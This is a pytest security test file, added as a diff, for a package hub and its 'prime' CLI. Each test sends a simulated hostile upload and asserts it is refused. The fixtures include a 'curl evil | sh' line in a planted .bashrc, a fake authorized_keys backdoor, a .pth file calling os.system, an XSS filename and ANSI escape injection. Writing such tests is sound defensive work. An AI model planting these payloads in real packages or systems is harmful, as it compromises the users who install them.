@@ -1,0 +1,412 @@
+"""Attacks on the hub and on `prime`, as a hostile user would make them; each must fail while the
+next legitimate action still works. A real hub process on loopback, real HTTP, the real CLI."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import socket
+import subprocess
+import sys
+import tarfile
+import time
+import uuid
+import zipfile
+from urllib.parse import urlsplit
+
+import httpx
+import pytest
+
+from hub_client.client import HubAPIError, HubClient
+from hub_server import Hub
+from hub_server.process import start_hub
+
+
+@pytest.fixture(scope="module")
+def hub(tmp_path_factory):
+    data = tmp_path_factory.mktemp("hub-sec")
+    admin = Hub(data).create_user("root", is_admin=True)
+    os.environ["PRIME_HUB_READ_TIMEOUT"] = "2"
+    try:
+        with start_hub(data) as server:
+            yield {"url": server.url, "admin": admin}
+    finally:
+        os.environ.pop("PRIME_HUB_READ_TIMEOUT", None)
+
+
+def user(hub, prefix="u") -> tuple[str, str]:
+    name = f"{prefix}{uuid.uuid4().hex[:10]}"
+    return name, HubClient(hub["url"], hub["admin"]).create_user(name).token
+
+
+def wheel(name, version="1.0.0", extra=(), top=None, filename=None) -> tuple[str, bytes]:
+    dist = name.replace("-", "_")
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr(f"{top or dist}/__init__.py", "def load_environment(): pass\n")
+        z.writestr(
+            f"{dist}-{version}.dist-info/METADATA",
+            f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: s\n",
+        )
+        z.writestr(
+            f"{dist}-{version}.dist-info/WHEEL",
+            "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        )
+        for member, data in extra:
+            z.writestr(member, data)
+        z.writestr(f"{dist}-{version}.dist-info/RECORD", "")
+    return filename or f"{dist}-{version}-py3-none-any.whl", buf.getvalue()
+
+
+def sdist(name, version="1.0.0", members=()) -> tuple[str, bytes]:
+    root = f"{name.replace('-', '_')}-{version}"
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+        for path, data in [
+            (
+                f"{root}/PKG-INFO",
+                f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
+            ),
+            *members,
+        ]:
+            info = tarfile.TarInfo(path)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return f"{root}.tar.gz", buf.getvalue()
+
+
+def publish(hub, token, owner, name, whl, sd=None, **form) -> httpx.Response:
+    files = {"wheel": whl, **({"sdist": sd} if sd else {})}
+    return httpx.post(
+        f"{hub['url']}/api/v1/environments/{owner}/{name}/versions",
+        files=files,
+        data=form,
+        headers={"Authorization": f"Bearer {token}"} if token else {},
+        timeout=60,
+    )
+
+
+def code(resp: httpx.Response) -> str:
+    return resp.json()["error"]["code"]
+
+
+# --- scopes, roles, tokens ---------------------------------------------------------------------------
+
+
+def test_a_read_only_token_reads_and_nothing_more_even_an_admins(hub):
+    root = HubClient(hub["url"], hub["admin"])
+    read_only = root.create_token("ro", ["read"]).token
+    attempts = [
+        ("POST", "/api/v1/users", {"name": f"evil{uuid.uuid4().hex[:6]}", "is_admin": True}),
+        ("POST", "/api/v1/teams", {"name": f"t{uuid.uuid4().hex[:6]}"}),
+        ("POST", "/api/v1/tokens", {"name": "up", "scopes": ["publish"]}),
+    ]
+    for method, path, body in attempts:
+        resp = httpx.request(
+            method, hub["url"] + path, json=body, headers={"Authorization": f"Bearer {read_only}"}
+        )
+        assert resp.status_code == 403, (path, resp.text)
+    resp = publish(hub, read_only, "root", "x-env", wheel("x-env"))  # root's own namespace
+    assert resp.status_code == 403 and code(resp) == "insufficient_scope"
+    assert HubClient(hub["url"], read_only).me().user == "root"  # reading still works
+
+
+def test_plain_team_members_cannot_delete_or_add_members(hub):
+    _, owner = user(hub, "own")
+    member_name, member = user(hub, "mem")
+    outsider_name, _ = user(hub, "out")
+    team = f"team{uuid.uuid4().hex[:8]}"
+    HubClient(hub["url"], owner).create_team(team)
+    httpx.post(
+        f"{hub['url']}/api/v1/teams/{team}/members",
+        json={"user": member_name},
+        headers={"Authorization": f"Bearer {owner}"},
+    ).raise_for_status()
+    assert publish(hub, member, team, "team-env", wheel("team-env")).status_code == 201
+    add = httpx.post(
+        f"{hub['url']}/api/v1/teams/{team}/members",
+        json={"user": outsider_name},
+        headers={"Authorization": f"Bearer {member}"},
+    )
+    assert add.status_code == 403
+    delete = httpx.delete(
+        f"{hub['url']}/api/v1/environments/{team}/team-env",
+        headers={"Authorization": f"Bearer {member}"},
+    )
+    assert delete.status_code == 403 and code(delete) == "not_owner"
+    assert (
+        httpx.delete(
+            f"{hub['url']}/api/v1/environments/{team}/team-env",
+            headers={"Authorization": f"Bearer {owner}"},
+        ).status_code
+        == 204
+    )
+
+
+def test_tokens_are_listed_without_secrets_revoked_and_expire(hub):
+    _, token = user(hub)
+    client = HubClient(hub["url"], token)
+    extra = client.create_token("ci", ["read"], expires_in_days=1)
+    listed = client.list_tokens()
+    assert [t.name for t in listed] == ["initial", "ci"] and listed[
+        1
+    ].expires_at == extra.expires_at
+    assert extra.token not in json.dumps([t.model_dump() for t in listed])
+    client.revoke_token(extra.id)
+    with pytest.raises(HubAPIError) as revoked:
+        HubClient(hub["url"], extra.token).me()
+    assert revoked.value.code == "invalid_token"
+    assert client.me()  # the other token still works
+
+
+# --- visibility, versions, names ---------------------------------------------------------------------
+
+
+def test_a_push_without_visibility_keeps_a_private_environment_private(hub):
+    name, token = user(hub)
+    assert (
+        publish(hub, token, name, "quiet-env", wheel("quiet-env"), visibility="private").status_code
+        == 201
+    )
+    assert publish(hub, token, name, "quiet-env", wheel("quiet-env", "1.1.0")).status_code == 201
+    assert httpx.get(f"{hub['url']}/api/v1/environments/{name}/quiet-env").status_code == 404
+    assert httpx.get(f"{hub['url']}/simple/{name}/quiet-env/quiet-env/").status_code == 404
+
+
+@pytest.mark.parametrize("shadow", ["1.0", "1.0.0.0", "1.0.0+evil"])
+def test_a_published_version_cannot_be_shadowed(hub, shadow):
+    name, token = user(hub)
+    assert publish(hub, token, name, "pinned-env", wheel("pinned-env", "1.0.0")).status_code == 201
+    resp = publish(hub, token, name, "pinned-env", wheel("pinned-env", shadow))
+    assert resp.status_code in (400, 409) and code(resp) in ("version_exists", "local_version")
+
+
+def test_names_clash_after_normalization_within_an_owner(hub):
+    name, token = user(hub)
+    assert publish(hub, token, name, "foo-bar", wheel("foo-bar")).status_code == 201
+    for spelling in ("foo_bar", "foo.bar"):
+        resp = publish(hub, token, name, spelling, wheel(spelling, "2.0.0"))
+        assert resp.status_code == 409 and code(resp) == "name_clash", resp.text
+
+
+# --- what a package may contain ----------------------------------------------------------------------
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+@pytest.mark.parametrize(
+    ("package", "error"),
+    [
+        (wheel("pth-env", extra=[("evil.pth", "import os; os.system('id')")]), "pth_file"),
+        (wheel("pth-env", extra=[("pth_env-1.0.0.data/purelib/x.pth", "import os")]), "pth_file"),
+        (wheel("sdk-env", extra=[("verifiers/__init__.py", "print('owned')")]), "foreign_module"),
+        (wheel("sdk-env", top="json"), "foreign_module"),
+        (
+            wheel(
+                "ep-env",
+                extra=[
+                    (
+                        "ep_env-1.0.0.dist-info/entry_points.txt",
+                        "[verifiers.environments]\nreverse-text = ep_env:load_environment\n",
+                    )
+                ],
+            ),
+            "foreign_entry_point",
+        ),
+        (wheel("dup-env", extra=[("dup_env/__init__.py", "x = 2\n")]), "duplicate_member"),
+        (
+            wheel(
+                "name-env", filename='name_env-1.0.0-py3-none-any"><img src=x onerror=alert(1)>.whl'
+            ),
+            "invalid_filename",
+        ),
+    ],
+    ids=[
+        "pth",
+        "pth-in-data",
+        "sdk-package",
+        "stdlib-module",
+        "foreign-entry-point",
+        "duplicate",
+        "html-in-filename",
+    ],
+)
+def test_packages_that_reach_outside_themselves_are_refused(hub, package, error):
+    name, token = user(hub)
+    env = package[0].split("-")[0].replace("_", "-")
+    resp = publish(hub, token, name, env, package)
+    assert resp.status_code == 400 and code(resp) == error, resp.text
+    assert publish(hub, token, name, "ok-env", wheel("ok-env")).status_code == 201
+
+
+def test_another_environments_module_cannot_be_installed_over(hub):
+    alice, alice_token = user(hub)
+    bob, bob_token = user(hub)
+    assert publish(hub, alice_token, alice, "maze-env", wheel("maze-env")).status_code == 201
+    resp = publish(hub, bob_token, bob, "trojan-env", wheel("trojan-env", top="maze_env"))
+    assert resp.status_code == 400 and code(resp) == "foreign_module" and alice in resp.text
+
+
+def test_an_sdist_member_named_dot_is_a_clean_400(hub):
+    name, token = user(hub)
+    resp = publish(
+        hub, token, name, "dot-env", wheel("dot-env"), sdist("dot-env", members=[(".", b"")])
+    )
+    assert resp.status_code == 400, resp.text
+
+
+def test_only_the_owner_attaches_evals(hub):
+    name, token = user(hub)
+    _, stranger = user(hub)
+    assert publish(hub, token, name, "eval-env", wheel("eval-env")).status_code == 201
+    files = {
+        "metadata": ("metadata.json", b'{"summary": {}, "model": "m"}'),
+        "results": ("results.jsonl", b""),
+    }
+    url = f"{hub['url']}/api/v1/environments/{name}/eval-env/versions/1.0.0/evals"
+    assert (
+        httpx.post(url, files=files, headers={"Authorization": f"Bearer {stranger}"}).status_code
+        == 403
+    )
+    assert (
+        httpx.post(url, files=files, headers={"Authorization": f"Bearer {token}"}).status_code
+        == 201
+    )
+
+
+# --- pages and resources -------------------------------------------------------------------------------
+
+
+def test_index_pages_do_not_depend_on_the_host_header(hub):
+    name, token = user(hub)
+    assert publish(hub, token, name, "host-env", wheel("host-env")).status_code == 201
+    pages = set()
+    for i in range(20):
+        resp = httpx.get(
+            f"{hub['url']}/simple/{name}/host-env/host-env/", headers={"Host": f"evil{i}.example"}
+        )
+        assert f"evil{i}" not in resp.text
+        pages.add(resp.text)
+    assert len(pages) == 1  # one cache entry, whatever the Host
+
+
+def raw_request(url: str, head: str, body: bytes = b"", wait: float = 10.0) -> bytes:
+    parts = urlsplit(url)
+    with socket.create_connection((parts.hostname, parts.port), timeout=wait) as sock:
+        sock.sendall(head.encode() + body)
+        chunks = b""
+        while b"\r\n\r\n" not in chunks:
+            data = sock.recv(65536)
+            if not data:
+                break
+            chunks += data
+        return chunks
+
+
+def test_an_anonymous_huge_upload_is_refused_before_its_body_is_read(hub):
+    path = "/api/v1/environments/x/y/versions"
+    head = f"POST {path} HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: {300 * 1024 * 1024}\r\n\r\n"
+    start = time.monotonic()
+    reply = raw_request(hub["url"], head)  # not a byte of the 300 MiB is sent
+    assert reply.startswith(b"HTTP/1.1 401") and time.monotonic() - start < 5
+    _, token = user(hub)
+    head = head.replace("Host: h\r\n", f"Host: h\r\nAuthorization: Bearer {token}\r\n")
+    assert raw_request(hub["url"], head).startswith(b"HTTP/1.1 413")
+
+
+def test_a_client_that_stalls_mid_body_is_cut_off(hub):
+    _, token = user(hub)
+    head = (
+        f"POST /api/v1/teams HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {token}\r\n"
+        "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n"
+    )
+    start = time.monotonic()
+    reply = raw_request(hub["url"], head, b'{"name": ', wait=15)
+    assert reply.startswith(b"HTTP/1.1 408") and time.monotonic() - start < 10
+
+
+# --- the client ---------------------------------------------------------------------------------------
+
+
+def prime(hub, token, *args, cwd):
+    env = {
+        **os.environ,
+        "PRIME_HUB_URL": hub["url"],
+        "PRIME_API_KEY": token,
+        "PRIME_CONFIG_DIR": str(cwd / ".prime"),
+    }
+    return subprocess.run(
+        [sys.executable, "-m", "hub_client.cli", *args],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+
+
+def test_pull_never_writes_dotfiles_or_outside_a_fresh_directory(hub, tmp_path):
+    name, token = user(hub)
+    root = "pull_env-1.0.0"
+    members = [
+        (f"{root}/.bashrc", b"curl evil | sh\n"),
+        (f"{root}/.ssh/authorized_keys", b"ssh-rsa EVIL\n"),
+        (f"{root}/pull_env/__init__.py", b"x = 1\n"),
+    ]
+    assert (
+        publish(
+            hub, token, name, "pull-env", wheel("pull-env"), sdist("pull-env", members=members)
+        ).status_code
+        == 201
+    )
+    home = tmp_path / "home"
+    home.mkdir()
+    first = prime(
+        hub, token, "env", "pull", f"{name}/pull-env@1.0.0", "-d", str(home), cwd=tmp_path
+    )
+    assert first.returncode == 0, first.stderr
+    written = sorted(str(p.relative_to(home)) for p in home.rglob("*") if p.is_file())
+    assert written == [f"{root}/PKG-INFO", f"{root}/pull_env/__init__.py"]
+    assert ".bashrc" in first.stderr and not (home / ".bashrc").exists()
+    again = prime(
+        hub, token, "env", "pull", f"{name}/pull-env@1.0.0", "-d", str(home), cwd=tmp_path
+    )
+    assert again.returncode != 0 and "fresh directory" in again.stderr
+
+
+def test_hub_text_cannot_drive_the_terminal(hub, tmp_path):
+    name, token = user(hub)
+    evil = "\x1b]0;pwned\x07\x1b[2J[red]fake error[/red] \x9b31m"
+    resp = publish(hub, token, name, "ansi-env", wheel("ansi-env"), description=evil, readme=evil)
+    assert resp.status_code == 201
+    shown = prime(hub, token, "env", "info", f"{name}/ansi-env", cwd=tmp_path)
+    assert shown.returncode == 0, shown.stderr
+    assert "\x1b" not in shown.stdout and "\x9b" not in shown.stdout
+    assert "[red]fake error[/red]" in shown.stdout  # shown literally, not as markup
+
+
+def test_the_install_token_never_reaches_a_command_line(hub, tmp_path, monkeypatch):
+    """The uv child gets the index credentials through its environment; its argv has none."""
+    import hub_client.install as install_module
+
+    name, token = user(hub)
+    assert publish(hub, token, name, "argv-env", wheel("argv-env")).status_code == 201
+    seen = {}
+    real_run = subprocess.run
+
+    def recording_run(cmd, *args, **kwargs):
+        if "install" in cmd and "pip" in cmd:
+            seen["argv"] = list(cmd)
+            seen["env"] = dict(kwargs.get("env") or {})
+        return real_run(cmd, *args, **kwargs)
+
+    monkeypatch.setattr(install_module.subprocess, "run", recording_run)
+    venv = tmp_path / "venv"
+    real_run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
+    install_module.install(
+        HubClient(hub["url"], token),
+        [install_module.EnvSpec.parse(f"{name}/argv-env@1.0.0")],
+        tmp_path / "e.lock",
+        str(venv / "bin" / "python"),
+    )
+    assert token not in " ".join(seen["argv"]) and token in seen["env"]["UV_EXTRA_INDEX_URL"]
